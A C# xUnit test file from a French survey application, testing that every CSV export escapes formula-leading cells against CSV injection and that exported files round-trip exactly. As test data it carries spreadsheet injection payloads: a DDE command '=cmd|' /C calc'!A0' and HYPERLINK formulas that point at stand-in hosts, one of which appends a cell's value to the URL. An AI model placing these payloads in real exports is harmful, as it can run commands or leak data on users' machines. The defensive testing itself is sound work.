using System.Text;
using Barometre.Core;
using Barometre.Core.Model;
using Barometre.Core.Publication;
using Barometre.Core.Responses;
using Barometre.Core.Results;
using Barometre.Data.Campaigns;
using Barometre.Data.Export;
using Barometre.Data.Import;
using CsvHelper;
using CsvHelper.Configuration;

namespace Barometre.Data.Tests.Export;

/// <summary>Formula-leading cells in every CSV export (OWASP « CSV injection »), and the round trip of the responses CSV.</summary>
public sealed class CsvCellsTest
{
    /// <summary>Texts a spreadsheet would run as formulas, and texts near them that it would not.</summary>
    public static TheoryData<string, string> Cells => new()
    {
        { "=HYPERLINK(\"http://exemple.fr\",\"clic\")", "'=HYPERLINK(\"http://exemple.fr\",\"clic\")" },
        { "+33 1 23", "'+33 1 23" },
        { "-Est", "'-Est" },
        { "@SOMME(A1)", "'@SOMME(A1)" },
        { "\tcmd", "'\tcmd" },
        { "\rcmd", "'\rcmd" },
        { "'=déjà échappé", "''=déjà échappé" },
        { "''-deux", "'''-deux" },
        { "'s-Hertogenbosch", "'s-Hertogenbosch" },
        { "'", "'" },
        { "Saint-Étienne", "Saint-Étienne" },
        { " =espace", " =espace" },
        { "", "" },
    };

    [Theory]
    [MemberData(nameof(Cells))]
    public void Text_FormulaLeadingCell_GetsAnApostropheThatReadTextRemoves(string value, string written)
    {
        Assert.Equal(written, CsvCells.Text(value));
        Assert.Equal(value, CsvCells.ReadText(written).ToString());
    }

    [Fact]
    public void ReadText_EveryShortText_UndoesText()
    {
        // Every text of up to three characters over the alphabet that matters, exhaustively.
        var alphabet = "'=+-@\t\rax ";
        var texts = new List<string> { "" };
        for (var length = 1; length <= 3; length++)
        {
            texts.AddRange(texts.Where(t => t.Length == length - 1).SelectMany(t => alphabet.Select(c => t + c)).ToList());
        }
        Assert.Equal(1 + 10 + 100 + 1000, texts.Count);

        Assert.All(texts, text => Assert.Equal(text, CsvCells.ReadText(CsvCells.Text(text)).ToString()));
        // Text is injective: two texts never give the same cell.
        Assert.Equal(texts.Count, texts.Select(CsvCells.Text).Distinct(StringComparer.Ordinal).Count());
        // No written cell starts a formula.
        Assert.All(texts.Select(CsvCells.Text), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell));
    }

    private static readonly MaturityModel Model = new(
        "formules",
        "=Référentiel",
        null,
        [
            new Theme("a", "=Thème", 1, [new Question("a.q1", "-Question un", ["@zéro", "un", "deux", "trois", "quatre"]), new Question("a.q2", "Deux")]),
            new Theme("b", "Thème B", 1, [new Question("b.q1", "Trois")]),
        ],
        []);

    private static List<string[]> Rows(byte[] bytes)
    {
        using var reader = new StreamReader(new MemoryStream(bytes), Encoding.UTF8, detectEncodingFromByteOrderMarks: true);
        using var csv = new CsvParser(reader, new CsvConfiguration(System.Globalization.CultureInfo.InvariantCulture));
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add(csv.Record!);
        }
        return rows;
    }

    private static byte[] Written(Action<Stream> write)
    {
        using var stream = new MemoryStream();
        write(stream);
        return stream.ToArray();
    }

    /// <summary>A panel whose every text field opens a formula, with negative-looking names among ordinary ones.</summary>
    private static ResponseSet HostilePanel()
    {
        string[] names = ["=HYPERLINK(\"http://exemple.fr/?\"&A1,\"Cliquez\")", "-Est", "+Ouest", "@Nord", "'=Déjà", "Saint-Malo", "Brest"];
        var respondents = names.Select((name, i) => new Respondent(
            i % 2 == 0 ? $"-{i}" : $"C{i}", name, i % 3 == 0 ? "=commune" : "ville", 1000 * (i + 1), i % 2 == 0 ? "-Est" : "+Ouest")).ToList();
        var cells = new sbyte[respondents.Count * Model.Questions.Count];
        for (var i = 0; i < cells.Length; i++)
        {
            cells[i] = (sbyte)((i * 7 % 6) - 1);
        }
        return new ResponseSet(Model, respondents, cells);
    }

    [Fact]
    public void ResponsesCsvWrite_FormulaLeadingTexts_AreNeutralisedAndNumbersStayNumbers()
    {
        var rows = Rows(Written(stream => ResponsesCsv.Write(HostilePanel(), stream)));

        var cells = rows.Skip(1).SelectMany(row => row).Where(cell => cell.Length > 0).ToList();
        Assert.All(cells, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
        Assert.Equal(["'-0", "'=HYPERLINK(\"http://exemple.fr/?\"&A1,\"Cliquez\")", "'=commune", "1000", "'-Est"], rows[1][..5]);
        Assert.Equal(["C1", "'-Est", "ville", "2000", "'+Ouest"], rows[2][..5]);
        Assert.Equal("''=Déjà", rows[5][1]);
        // Levels, NSP and NC are written as they are.
        Assert.All(rows.Skip(1).SelectMany(row => row[5..]), cell => Assert.Matches("^([0-4]|NSP|NC|)$", cell));
    }

    [Fact]
    public void ResponsesCsv_ExportThenImport_GivesTheSameRespondentsAndIdenticalFigures()
    {
        var original = HostilePanel();

        var bytes = Written(stream => ResponsesCsv.Write(original, stream));
        var read = ResponsesCsv.Read(new MemoryStream(bytes), "export.csv", Model);

        Assert.True(read.Succeeded, string.Join('\n', read.Problems));
        Assert.Equal(original.Respondents, read.Value!.Respondents);
        Assert.Equal(original.Cells.ToArray(), read.Value.Cells.ToArray());
        Assert.Equal(ResultsJson.Serialize(Barometer.Compute(original)), ResultsJson.Serialize(Barometer.Compute(read.Value)));
        // Exported again, the file is the same byte for byte: nothing is escaped twice.
        Assert.Equal(bytes, Written(stream => ResponsesCsv.Write(read.Value, stream)));
    }

    [Fact]
    public void ResponsesCsv_QuestionIdOpeningAFormula_RoundTripsThroughTheHeader()
    {
        var model = new MaturityModel("ids", "Ids", null, [new Theme("-t", "T", 1, [new Question("-t.q", "Q")])], []);
        var responses = new ResponseSet(model, [new Respondent("1", "Un")], (sbyte[])[3]);

        var bytes = Written(stream => ResponsesCsv.Write(responses, stream));
        var read = ResponsesCsv.Read(new MemoryStream(bytes), "export.csv", model);

        Assert.Equal("code,nom,type,population,region,'-t.q", Rows(bytes)[0].Aggregate((a, b) => $"{a},{b}"));
        Assert.True(read.Succeeded, string.Join('\n', read.Problems));
        Assert.Equal(responses.Cells.ToArray(), read.Value!.Cells.ToArray());
    }

    [Fact]
    public void PanelCsv_ExportedPanelWithEmails_ReadsBackUnescaped()
    {
        var panel = "code,nom,type,region,email\n'-7,'=Commune,'+type,'@région,'-contact@exemple.fr\n";

        var read = PanelCsv.Read(new MemoryStream(Encoding.UTF8.GetBytes(panel)), "panel.csv");

        Assert.True(read.Succeeded, string.Join('\n', read.Problems));
        var entry = Assert.Single(read.Value!);
        Assert.Equal(new Respondent("-7", "=Commune", "+type", null, "@région"), entry.Respondent);
        Assert.Equal("-contact@exemple.fr", entry.Email);
    }

    [Fact]
    public void InvitationLinksCsvWrite_FormulaLeadingTexts_AreNeutralised()
    {
        IssuedInvitation[] issued =
        [
            new(1, "=1+1", "=HYPERLINK(\"http://pirate.example\",\"Votre lien\")", "-x@exemple.fr", "jeton1", DateTime.UnixEpoch),
            new(2, "C2", "Saint-Malo", null, "jeton2", DateTime.UnixEpoch),
        ];

        var rows = Rows(Written(stream => InvitationLinksCsv.Write(stream, issued, new Uri("https://barometre.exemple.fr/"))));

        Assert.Equal(["code", "nom", "email", "link"], rows[0]);
        Assert.Equal(["'=1+1", "'=HYPERLINK(\"http://pirate.example\",\"Votre lien\")", "'-x@exemple.fr", "https://barometre.exemple.fr/q/jeton1"], rows[1]);
        Assert.Equal(["C2", "Saint-Malo", "", "https://barometre.exemple.fr/q/jeton2"], rows[2]);
    }

    [Fact]
    public void AnswerSheetCsvWrite_FormulaLeadingTexts_AreNeutralisedAndLevelsStayNumbers()
    {
        var answers = new Dictionary<string, AnswerState>
        {
            ["a.q1"] = new("a.q1", 0, AnswerMark.None, "- premier point\n- second point", "=cmd|' /C calc'!A0", "+ justification", 3, new DateTime(2026, 3, 1, 10, 0, 0, DateTimeKind.Utc), "@lien C1 (Anne)"),
            ["a.q2"] = new("a.q2", null, AnswerMark.DontKnow, null, null, null, 1, null, null),
        };

        var rows = Rows(Written(stream => AnswerSheetCsv.Write(Model, answers, stream)));

        Assert.Equal(AnswerSheetCsv.Columns, rows[0]);
        Assert.Equal(["'=Thème", "a.q1", "'-Question un", "0", "Sujet non abordé", "", "'- premier point\n- second point", "'=cmd|' /C calc'!A0", "'+ justification", "2026-03-01T10:00:00Z", "'@lien C1 (Anne)"], rows[1]);
        Assert.Equal("NSP", rows[2][5]);
        Assert.All(rows.Skip(1).SelectMany(row => row), cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
    }

    [Fact]
    public void PublicDistributionsCsvWrite_FormulaLeadingTexts_AreNeutralisedAndFiguresStayNumbers()
    {
        var responses = HostilePanel();
        var results = Barometer.Compute(responses);
        var plan = SecrecyPlan.Build(responses, threshold: 1);
        var published = Disclosure.ForFilter(responses, results, plan, new PanelFilter(Region: "-Est"));

        var rows = Rows(Written(stream => PublicDistributionsCsv.Write(Model, published, stream)));

        Assert.Equal(PublicDistributionsCsv.Columns, rows[0]);
        Assert.Equal(["'-Est", "a", "'=Thème", "a.q1", "'-Question un", "0", "Sujet non abordé"], rows[1][..7]);
        Assert.All(rows.Skip(1), row =>
        {
            Assert.All(row, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
            Assert.Matches("^[0-9]$", row[5]);
            Assert.Matches("^[0-9]*$", row[7]);
        });
    }
}
